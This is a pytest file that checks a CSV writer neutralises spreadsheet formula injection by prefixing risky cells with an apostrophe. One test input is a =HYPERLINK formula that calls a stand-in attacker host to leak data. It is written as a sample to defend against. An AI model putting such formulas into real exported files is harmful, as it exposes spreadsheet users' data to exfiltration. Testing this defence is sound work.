"""Spreadsheet-safe CSV cells (OWASP's rule on CSV injection)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest

from portal import csvsafe


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak","klikk")',
            '\'=HYPERLINK("http://evil.example/?leak","klikk")',
        ),
        ("+47 900 00 000", "'+47 900 00 000"),
        ("-1+1", "'-1+1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTAB", "'\tTAB"),
        ("\rCR", "'\rCR"),
        ("Kari Nordmann", "Kari Nordmann"),
        ("kari=ola@example.test", "kari=ola@example.test"),
        ("", ""),
        # Data, not text: a negative amount, a date and a number are written as they are.
        (Decimal("-12.50"), "-12.50"),
        (date(2026, 1, 2), "2026-01-02"),
        (-3, "-3"),
    ],
)
def test_cells_that_would_run_as_formulas_are_quoted(value, written):
    out = io.StringIO()
    csvsafe.writer(out).writerow([value])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == [written]
